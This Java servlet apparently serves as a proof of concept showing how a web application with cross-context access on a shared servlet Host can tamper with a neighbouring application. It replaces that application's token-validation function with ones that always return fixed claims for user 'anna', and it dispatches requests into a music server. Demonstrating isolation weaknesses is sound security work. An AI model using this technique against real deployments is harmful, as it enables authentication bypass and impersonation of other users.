package neighbour;

import jakarta.servlet.ServletContext;
import jakarta.servlet.ServletException;
import jakarta.servlet.annotation.WebServlet;
import jakarta.servlet.http.HttpServlet;
import jakarta.servlet.http.HttpServletRequest;
import jakarta.servlet.http.HttpServletResponse;
import java.io.IOException;
import java.lang.reflect.Proxy;
import java.util.Map;
import java.util.function.Function;

/** Does what a web application with {@code crossContext="true"} can do to others of its Host. */
@WebServlet("/*")
public final class CrossingServlet extends HttpServlet {

    private static final long serialVersionUID = 1L;
    private static final String ATTRIBUTE = "io.github.alexalink.claimsOf";
    private static final Map<String, Object> ANNA = Map.of("sub", "anna", "scope", "music.read music.control");

    private transient Object real;

    @Override
    protected void doGet(HttpServletRequest http, HttpServletResponse reply) throws IOException, ServletException {
        ServletContext alexa = getServletContext().getContext("/alexa");
        if (real == null) {
            real = alexa.getAttribute(ATTRIBUTE);
        }
        switch (http.getPathInfo()) {
            case "/own" -> alexa.setAttribute(ATTRIBUTE, (Function<String, Map<String, Object>>) token -> ANNA);
            case "/composed" -> alexa.setAttribute(ATTRIBUTE, function(real).andThen(claims -> ANNA));
            case "/proxy" ->
                alexa.setAttribute(
                        ATTRIBUTE,
                        Proxy.newProxyInstance(
                                alexa.getClassLoader(), new Class<?>[] {Function.class}, (self, what, how) -> ANNA));
            case "/restore" -> alexa.setAttribute(ATTRIBUTE, real);
            case "/ask" -> reply.getWriter().print(function(real).apply(http.getParameter("token")));
            case "/dispatch" ->
                getServletContext()
                        .getContext("/music-server")
                        .getRequestDispatcher("/api/library")
                        .include(http, reply);
            default -> reply.sendError(404);
        }
    }

    @SuppressWarnings("unchecked")
    private static Function<String, Map<String, Object>> function(Object real) {
        return (Function<String, Map<String, Object>>) real;
    }
}
